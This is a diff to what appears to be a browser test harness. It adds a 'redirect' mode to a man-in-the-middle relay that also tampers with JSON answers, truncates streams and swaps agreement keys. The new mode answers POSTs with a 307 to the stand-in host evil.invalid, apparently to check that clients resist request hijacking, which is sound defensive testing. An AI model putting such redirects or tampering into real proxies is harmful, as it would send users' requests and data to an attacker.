@@ -4,7 +4,7 @@
  * man-in-the-middle relay in front of it whose first path segment picks what it does to the
  * traffic: `pass` relays verbatim, `tamper` rewrites a plain field of a JSON answer, `truncate`
  * ends a stream cleanly just before its end marker, `swap` publishes the relay's own agreement
- * key instead of the server's. Two more mounts publish hybrid post-quantum keys, which the browser
+ * key instead of the server's, `redirect` forwards a POST and then answers 307 to another origin. Two more mounts publish hybrid post-quantum keys, which the browser
  * build cannot agree yet: `/pq` also agrees classically with clients that lack ML-KEM, `/pq-only`
  * does not.
  */
@@ -130,6 +130,15 @@ export async function startBrowserServers(origin: () => string): Promise<Browser
     })
     forwarded.on('response', async (answer) => {
       const answerHeaders = { ...answer.headers }
+      if (mode === 'redirect' && incoming.method === 'POST') {
+        await readAll(answer)
+        outgoing.writeHead(307, {
+          location: 'http://evil.invalid/v1/chat/completions',
+          'access-control-allow-origin': origin(),
+        })
+        outgoing.end()
+        return
+      }
       const type = String(answer.headers['content-type'] ?? '')
       if (mode === 'tamper' && type.startsWith('application/json')) {
         const text = (await readAll(answer)).toString('utf8').replace('"gpt-4o-mini"', '"gpt-4o"')
